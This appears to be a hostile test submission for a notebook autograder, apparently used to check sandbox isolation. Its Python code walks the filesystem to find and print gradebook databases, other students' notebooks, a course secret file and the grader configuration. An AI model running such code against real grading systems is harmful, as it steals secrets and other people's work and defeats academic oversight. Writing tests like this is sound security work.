# tries: to find and read sources, gradebook, secrets and other submissions on the file system
# mark: 19
# nowhere: BEGIN HIDDEN
# nowhere: FOUND
# %% end
import os
roots = ["/", "/work", "/root", "/home", "/tmp", "/opt", "/srv", "/mnt", "..", "../..", "../../.."]
for root in roots:
    for where, folders, names in os.walk(root):
        if os.path.realpath(where).startswith(("/proc", "/usr", "/sys", "/lib", "/etc")) or ".pyenv" in where or "site-packages" in where:
            folders[:] = []
            continue
        for name in names:
            if name.endswith((".ipynb", ".db")) or name in (".course_secret", "nbgrader_config.py"):
                print("FOU" + "ND", where, name)
                print(open(os.path.join(where, name), errors="replace").read()[:5000])
